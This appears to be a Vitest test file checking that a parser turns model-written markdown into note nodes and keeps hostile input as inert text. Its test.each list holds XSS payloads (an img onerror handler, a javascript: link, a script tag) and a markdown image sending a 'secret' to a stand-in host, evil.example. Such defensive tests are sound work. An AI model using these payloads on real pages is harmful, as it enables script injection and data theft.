import { expect, test } from 'vitest'
import { parseModelText, toNoteNodes } from './model-text.ts'

test('paragraphs, headings, lists, code and marks are read', () => {
  const text = '# Title\nOne **two** *three* `four`.\n\n1. First\n\n2. Second\n- Point\n```sql\nselect 1\n```\nEnd'
  expect(parseModelText(text)).toEqual([
    { type: 'heading', level: 1, inlines: [{ text: 'Title', marks: [] }] },
    {
      type: 'paragraph',
      inlines: [
        { text: 'One ', marks: [] },
        { text: 'two', marks: ['bold'] },
        { text: ' ', marks: [] },
        { text: 'three', marks: ['italic'] },
        { text: ' ', marks: [] },
        { text: 'four', marks: ['code'] },
        { text: '.', marks: [] },
      ],
    },
    { type: 'list', isOrdered: true, items: [[{ text: 'First', marks: [] }], [{ text: 'Second', marks: [] }]] },
    { type: 'list', isOrdered: false, items: [[{ text: 'Point', marks: [] }]] },
    { type: 'code', text: 'select 1' },
    { type: 'paragraph', inlines: [{ text: 'End', marks: [] }] },
  ])
})

test.each([
  '<img src=x onerror=alert(1)>',
  '[click](javascript:alert(1))',
  '![](https://evil.example/?q=secret)',
  '<script>alert(1)</script>',
  '2 * 3 * 4 = 24',
])('%s stays text', (text) => {
  expect(toNoteNodes(parseModelText(text))).toEqual([{ type: 'paragraph', content: [{ type: 'text', text }] }])
})

test('a text becomes nodes of a note', () => {
  expect(toNoteNodes(parseModelText('A\nB\n\n- **C**'))).toEqual([
    { type: 'paragraph', content: [{ type: 'text', text: 'A' }, { type: 'hardBreak' }, { type: 'text', text: 'B' }] },
    {
      type: 'bulletList',
      content: [
        {
          type: 'listItem',
          content: [{ type: 'paragraph', content: [{ type: 'text', text: 'C', marks: [{ type: 'bold' }] }] }],
        },
      ],
    },
  ])
})
